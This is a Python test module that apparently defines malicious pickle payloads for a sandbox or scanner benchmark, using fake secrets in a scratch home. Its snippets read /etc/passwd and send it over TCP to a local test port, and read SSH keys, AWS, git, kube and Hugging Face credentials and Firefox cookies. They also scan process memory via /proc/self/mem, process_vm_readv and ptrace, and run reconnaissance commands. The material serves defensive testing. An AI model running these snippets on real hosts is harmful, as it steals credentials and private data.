"""Loads that read what is none of their business: scratch secrets, accounts, memory, the host."""

from __future__ import annotations

import contextlib
import io
import netrc
import operator
import os
import sqlite3
from pathlib import Path

from benchmarks.lab.catalogue.making import payload, telling
from tests.behaviours.behaviour import TCP_PORT, Behaviour
from tests.behaviours.payloads import read
from tests.behaviours.pickles import (
    LOAD,
    LOAD_AND_TELL,
    Call,
    arrived,
    model,
    pickled,
    said,
    source,
)

__all__ = ["SECRETS"]

_PASSWD = Call(operator.methodcaller("read"), Call(io.FileIO, "/etc/passwd"))

_SEND_PASSWD = f"""\
import os, socket
with open("/etc/passwd", "rb") as file, socket.socket() as peer:
    peer.connect(("127.0.0.1", int(os.environ["{TCP_PORT}"])))
    peer.sendall(file.read(1000))
    peer.recv(16)
"""

# How much there is, and never what.
_SHADOW = """\
import os
try:
    with open("/etc/shadow") as file:
        os.environ["FIRED"] = "shadow has %d characters" % len(file.read())
except OSError as error:
    os.environ["FIRED"] = "shadow is refused: %s" % error
"""

_INIT_ENVIRON = """\
import os
try:
    with open("/proc/1/environ", "rb") as file:
        os.environ["FIRED"] = "environ has %d bytes" % len(file.read())
except OSError as error:
    os.environ["FIRED"] = "environ is refused: %s" % error
"""

_SSH_GLOB = """\
import glob, os
texts = []
for path in sorted(glob.glob(os.path.expanduser("~/.ssh/*"))):
    with open(path) as file:
        texts.append(file.read())
os.environ["FIRED"] = "".join(texts)
"""

_OWN_MEMORY = """\
import os
secret = b"FAKE-" + b"SECRET" * 20000
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        area, rights = line.split()[:2]
        start, end = (int(text, 16) for text in area.split("-"))
        if rights.startswith("rw") and start <= id(secret) < end:
            memory.seek(id(secret))
            if b"FAKE-SECRET" in memory.read(100):
                os.environ["FIRED"] = "found in memory"
"""

_CHILD_MEMORY = """\
import ctypes, os, signal
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
secret = ctypes.create_string_buffer(b"FAKE-SECRET")
copy = ctypes.create_string_buffer(16)
there, here = (Vector(ctypes.addressof(place), 11) for place in (secret, copy))
child = os.fork()
if child == 0:
    signal.alarm(5)
    signal.pause()
ctypes.CDLL(None).process_vm_readv(child, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
os.kill(child, 9)
os.waitpid(child, 0)
os.environ["FIRED"] = copy.value.decode()
"""

_PTRACE = """\
import ctypes, os, signal
child = os.fork()
if child == 0:
    signal.alarm(5)
    signal.pause()
libc = ctypes.CDLL(None)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
os.environ["FIRED"] = "ptrace gave %d" % libc.ptrace(16, child, None, None)
os.waitpid(child, 0)
libc.ptrace(17, child, None, None)
os.kill(child, 9)
os.waitpid(child, 0)
"""

_PROCESSES = """\
import glob, os
names = []
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as file:
            names.append(file.read())
    except OSError:
        pass
os.environ["FIRED"] = "%s among the processes" % any(b"load.py" in name for name in names)
"""

_WALK = """\
import os
names = [name for _, _, files in os.walk(os.path.expanduser("~")) for name in files]
os.environ["FIRED"] = " ".join(sorted(names))
"""

_COOKIES = """\
import glob, os, shutil, sqlite3
found = glob.glob(os.path.expanduser("~/.mozilla/firefox/*/cookies.sqlite"))[0]
shutil.copy(found, "cookies.copy")
store = sqlite3.connect("cookies.copy")
os.environ["FIRED"] = store.execute("SELECT value FROM moz_cookies").fetchone()[0]
store.close()
os.unlink("cookies.copy")
"""

_LIST_FILES = """\
import os

for name in os.listdir("/proc/self/fd"):
    try:
        print(os.readlink("/proc/self/fd/" + name))
    except OSError:  # the listing's own
        pass
"""


def _with_cookies(folder: Path) -> Path:
    profile = folder / "home/.mozilla/firefox/abcd.default"
    profile.mkdir(parents=True)
    with contextlib.closing(sqlite3.connect(profile / "cookies.sqlite")) as store, store:
        store.execute("CREATE TABLE moz_cookies (host TEXT, value TEXT)")
        store.execute("INSERT INTO moz_cookies VALUES ('example.org', 'FAKE-COOKIE')")
    return pickled(model(source(_COOKIES)))(folder)


SECRETS: tuple[Behaviour, ...] = (
    payload(
        "read_passwd",
        "/etc/passwd opened and read, nothing else",
        _PASSWD,
        said("root:"),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "send_passwd",
        "/etc/passwd read, then connect to 127.0.0.1 and sendto",
        source(_SEND_PASSWD),
        arrived("tcp root:"),
    ),
    payload(
        "read_shadow",
        "/etc/shadow opened, in vain where the user may not",
        source(_SHADOW),
        said("shadow "),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "shell_cat_credentials",
        "execve of sh and cat, which reads ~/.aws/credentials",
        Call(os.system, "cat ~/.aws/credentials"),
        said("FAKE-ACCESS-KEY"),
    ),
    payload(
        "ssh_glob",
        "~/.ssh listed and every file in it read",
        source(_SSH_GLOB),
        said("FAKE-PRIVATE-KEY"),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "read_netrc",
        "~/.netrc opened, its owner looked at, and read by the module netrc",
        Call(operator.methodcaller("authenticators", "example.org"), Call(netrc.netrc)),
        said("FAKE-PASSWORD"),
        loader=LOAD_AND_TELL,
        files={"home/.netrc": "machine example.org login me password FAKE-PASSWORD\n"},
    ),
    payload(
        "read_git_credentials",
        "~/.git-credentials opened and read, nothing else",
        read("~/.git-credentials"),
        said("FAKE-PASSWORD"),
        loader=LOAD_AND_TELL,
        files={"home/.git-credentials": "https://me:FAKE-PASSWORD@example.org\n"},
    ),
    payload(
        "read_kubeconfig",
        "~/.kube/config opened and read, nothing else",
        read("~/.kube/config"),
        said("FAKE-CLUSTER-TOKEN"),
        loader=LOAD_AND_TELL,
        files={"home/.kube/config": "users: [{user: {token: FAKE-CLUSTER-TOKEN}}]\n"},
    ),
    payload(
        "read_hub_token",
        "~/.cache/huggingface/token opened and read, nothing else",
        read("~/.cache/huggingface/token"),
        said("hf_FAKE_TOKEN"),
        loader=LOAD_AND_TELL,
        files={"home/.cache/huggingface/token": "hf_FAKE_TOKEN"},
    ),
    payload(
        "read_environment",
        "nothing: an environment variable read from memory",
        Call(os.getenv, "SERVICE_KEY"),
        said("FAKE-SERVICE-KEY"),
        loader=telling("import os\n\nos.environ['SERVICE_KEY'] = 'FAKE-SERVICE-KEY'\n\n"),
    ),
    payload(
        "proc_self_environ",
        "/proc/self/environ opened and read",
        read("/proc/self/environ"),
        said("HOME="),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "proc_init_environ",
        "/proc/1/environ opened, in vain where the user may not",
        source(_INIT_ENVIRON),
        said("environ "),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "scan_own_memory",
        "/proc/self/maps read, then /proc/self/mem where it says",
        source(_OWN_MEMORY),
        said("found in memory"),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "process_vm_readv",
        "fork, then process_vm_readv of the child's memory",
        source(_CHILD_MEMORY),
        said("FAKE-SECRET"),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "ptrace",
        "fork, then ptrace attaches to the child",
        source(_PTRACE),
        said("ptrace gave 0"),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "reconnaissance",
        "execve of sh, whoami, uname, id and env",
        Call(os.system, "whoami; uname -a; id; env"),
        said("uid="),
    ),
    payload(
        "process_list",
        "/proc listed, the command line of every process read",
        source(_PROCESSES),
        said("True among the processes"),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "home_walk",
        "every folder of the scratch home listed",
        source(_WALK),
        said("id_rsa"),
        loader=LOAD_AND_TELL,
    ),
    payload(
        "home_find",
        "execve of sh and find, which lists the scratch home",
        Call(os.system, "find ~ -type f"),
        said("id_rsa"),
    ),
    Behaviour(
        name="browser_cookies",
        malicious=True,
        shows="a browser's store of cookies copied, and the copy read by SQLite",
        loader=LOAD_AND_TELL,
        make=_with_cookies,
        fired=said("FAKE-COOKIE"),
    ),
    payload(
        "kept_open",
        "~/.ssh/id_rsa opened, not read, and left open",
        Call(open, Call(os.path.expanduser, "~/.ssh/id_rsa")),
        said("id_rsa"),
        loader=LOAD + _LIST_FILES,
    ),
)
